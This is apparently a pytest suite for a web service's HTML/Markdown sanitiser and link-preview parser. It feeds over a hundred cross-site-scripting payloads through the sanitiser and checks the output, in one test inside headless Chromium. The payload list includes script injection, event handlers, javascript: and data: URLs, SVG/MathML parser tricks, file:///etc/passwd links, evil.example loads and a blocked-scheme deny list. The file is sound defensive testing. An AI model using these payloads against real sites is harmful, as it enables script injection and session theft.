"""A18: only allowed elements, attributes and addresses come out of what people write, and a browser runs nothing."""

import re
import shutil
from collections.abc import Callable
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from playwright.async_api import async_playwright

from service.text.markdown import render_markdown
from service.text.preview import parse_preview
from service.text.sanitising import ATTRIBUTES, FEW_TAGS, PICTURE_SCHEMES, REL, SCHEMES, TAGS, sanitise

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "\x00<script>alert(1)</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x ONERROR=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src='x' onerror='alert&#40;1&#41;'>",
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=>",
    "<img srcset='x 1x, javascript:alert(1) 2x'>",
    "<img style='background:url(javascript:alert(1))'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://a.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='//evil.example' target=_blank rel=opener ping=//evil.example download>x</a>",
    "<a href=x style='position:fixed;inset:0'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></title></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<template><p title="</template><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<table><caption><script>alert(1)</script></caption></table>",
    "<div style=width:expression(alert(1))>x</div>",
    "<div id=__proto__ name=cookie class='btn danger' data-hx-get=/x hx-get=/logout hx-trigger=load>x</div>",
    "<a id=location name=location href=//evil.example class='mention button'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "</p><script>alert(1)</script><p>",
    "</blockquote></div></body></html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onconnected=alert(1)></custom-element>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<img alt='\"><img src=x onerror=alert(1)>' src=https://a.example/>",
    "<img alt='`onerror=alert(1)' src=https://a.example/>",
    "<ol start='\"><script>alert(1)</script>'><li>x</ol>",
    "<td colspan='\" onclick=alert(1) x=\"'>x</td>",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://%0aalert(1)",
    "jav%61script:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/><img src=x onerror=alert(1)>",
]

# Every place in a Markdown text into which something can be written.
PLACES = {
    "inline": "{}",
    "paragraph": "a\n\n{}\n\nb",
    "emphasis": "**{}**",
    "heading": "# {}",
    "link text": "[{}](https://a.example/)",
    "link title": '[a](https://a.example/ "{}")',
    "picture text": "![{}](https://a.example/b.png)",
    "picture title": '![a](https://a.example/b.png "{}")',
    "spoiler title": "::: spoiler {}\ntext\n:::",
    "spoiler": "::: spoiler title\n{}\n:::",
    "table": "|a|b|\n|-|-|\n|{}|c|",
    "code": "`{}`",
    "code language": "```{}\na\n```",
    "quote": "> {}",
    "list": "- {}",
    "superscript": "x^{}^",
    "subscript": "x~{}~",
    "definition": '[a]: https://a.example/ "{}"\n\n[a]',
    "mention": "@{}@pie.example !{}@pie.example",
}

ADDRESS_PLACES = {
    "link": "[a]({})",
    "link in angles": "[a](<{}>)",
    "picture": "![a]({})",
    "picture in angles": "![a](<{}>)",
    "autolink": "<{}>",
    "definition": "[a]: {}\n\n[a]",
    "definition in angles": "[a]: <{}>\n\n[a]",
    "link of a picture": "[![a]({})]({})",
    "bare": "{}",
}

ADDED = {"a": {"rel", "href"}, "img": {"loading"}}  # by the sanitiser itself


def render(source: str) -> str:
    return render_markdown(source, domain="pie.example")


def pruned(html: str) -> str:
    """Take the way of large documents."""
    return sanitise("<b></b>" * FEW_TAGS + html)


class _Inspector(HTMLParser):
    """Reads what came out and notes everything that is not allowed there."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        names = [name for name, _ in attrs]
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | ADDED.get(tag, set()) or names.count(name) > 1:
                self.wrong.append(f"<{tag} {name}>")
            if name in {"href", "src"}:
                self._check_address(name, value or "")
            if (name, value) not in {("class", "mention"), ("loading", "lazy"), ("rel", REL)}:
                self.wrong += [f"{name}={value}"] * (name in {"class", "loading", "rel"})
        if tag == "a" and "rel" not in names:
            self.wrong.append("<a> without rel")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")

    def _check_address(self, name: str, value: str) -> None:
        scheme = urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme
        if scheme and scheme not in (SCHEMES if name == "href" else PICTURE_SCHEMES):
            self.wrong.append(f"{name}={value}")


def assert_harmless(html: str) -> None:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.wrong
    assert sanitise(html) == html  # a second parse finds nothing new, so nothing mutates


@pytest.mark.parametrize("way", [sanitise, pruned, render])
@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_payloads_are_harmless_as_html(payload: str, way: Callable[[str], str]) -> None:
    assert_harmless(way(payload))
    assert_harmless(way(payload * 3))
    assert_harmless(way(f"<blockquote><p><b>{payload}</b></p><table><tr><td>{payload}"))


@pytest.mark.parametrize("place", PLACES)
def test_payloads_are_harmless_in_every_place_of_markdown(place: str) -> None:
    for payload in HTML_PAYLOADS:
        assert_harmless(render(PLACES[place].replace("{}", payload)))


@pytest.mark.parametrize("place", ADDRESS_PLACES)
def test_addresses_lead_to_the_web(place: str) -> None:
    for address in ADDRESSES:
        assert_harmless(render(ADDRESS_PLACES[place].replace("{}", address)))


@pytest.mark.parametrize("address", ADDRESSES)
def test_addresses_of_remote_html_lead_to_the_web(address: str) -> None:
    quoted = address.replace('"', "&quot;")
    for way in (sanitise, pruned):
        assert_harmless(way(f'<a href="{quoted}">x</a><img src="{quoted}" alt="{quoted}">'))


def test_the_allow_list_names_nothing_that_runs_or_loads() -> None:
    assert {"http", "https"} == PICTURE_SCHEMES
    assert SCHEMES.isdisjoint(
        {"javascript", "vbscript", "data", "blob", "file", "about", "view-source", "ws", "intent"}
    )
    assert TAGS.isdisjoint(
        {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "link",
            "meta",
            "base",
        }
    )
    assert {name for names in ATTRIBUTES.values() for name in names} == {
        "href", "src", "alt", "title", "class", "start", "colspan", "rowspan",
    }  # fmt: skip


def test_the_inspector_sees_what_it_looks_for() -> None:
    for bad in [
        "<script>",
        "<p onclick=x>",
        "<a href=javascript:x rel=x>",
        "<img src=data:x>",
        "<!-- -->",
        "<a href=x>",
    ]:
        with pytest.raises(AssertionError):
            assert_harmless(bad)


def test_remote_pages_become_text() -> None:
    for payload in HTML_PAYLOADS:
        quoted = payload.replace("&", "&amp;").replace('"', "&quot;")
        page = (
            f'<head><meta property="og:title" content="{quoted}"><meta name=description content="{quoted}">'
            f'<meta property="og:image" content="{quoted}"><link rel=canonical href="{quoted}">'
        )
        preview = parse_preview(page.encode(), "text/html; charset=utf-8", "https://a.example/")
        for url in (preview.image_url, preview.canonical_url):
            assert url is None or urlsplit(url).netloc in {"a.example", "evil.example"}
            assert url is None or urlsplit(url).scheme == "https"


@pytest.mark.parametrize("address", ADDRESSES)
def test_pictures_of_remote_pages_come_from_the_web(address: str) -> None:
    quoted = address.replace("&", "&amp;").replace('"', "&quot;")
    page = f'<base href="{quoted}"><meta property="og:image" content="{quoted}">'
    image = parse_preview(page.encode(), "text/html", "https://a.example/").image_url
    assert image is None or image.startswith("https://a.example/")


@pytest.mark.browser
async def test_a_browser_runs_nothing_of_it() -> None:
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("there is no chromium")
    corpus = [
        *map(sanitise, HTML_PAYLOADS),
        *map(pruned, HTML_PAYLOADS),
        *(render(place.replace("{}", payload)) for place in PLACES.values() for payload in HTML_PAYLOADS),
        *(render(place.replace("{}", address)) for place in ADDRESS_PLACES.values() for address in ADDRESSES),
    ]
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        try:
            page = await browser.new_page()
            await page.route("**/*", lambda route: route.abort())
            await page.set_content(
                "<script>window.hits = 0; window.alert = () => { window.hits += 1 }</script>"
            )
            # First a proof that the trap works, then everything, twice: reading back what the browser made of it.
            trap = """async (parts) => {
                for (const part of parts) {
                    const box = document.createElement('div');
                    document.body.append(box);
                    box.innerHTML = part;
                    box.innerHTML = box.innerHTML;
                    for (const element of box.querySelectorAll('*')) {
                        element.dispatchEvent(new Event('toggle'));
                        if (/^\\s*javascript:/i.test(element.href || element.src || '')) window.hits += 1;
                        if (/^https?:/.test(element.namespaceURI) && !element.namespaceURI.endsWith('xhtml'))
                            window.hits += 1;
                        for (const name of element.getAttributeNames()) if (/^on/i.test(name)) window.hits += 1;
                    }
                    box.remove();
                }
                await new Promise((resolve) => setTimeout(resolve, 50));
                return window.hits;
            }"""
            assert await page.evaluate(trap, corpus) == 0
            assert await page.evaluate(trap, HTML_PAYLOADS) > 20
        finally:
            await browser.close()
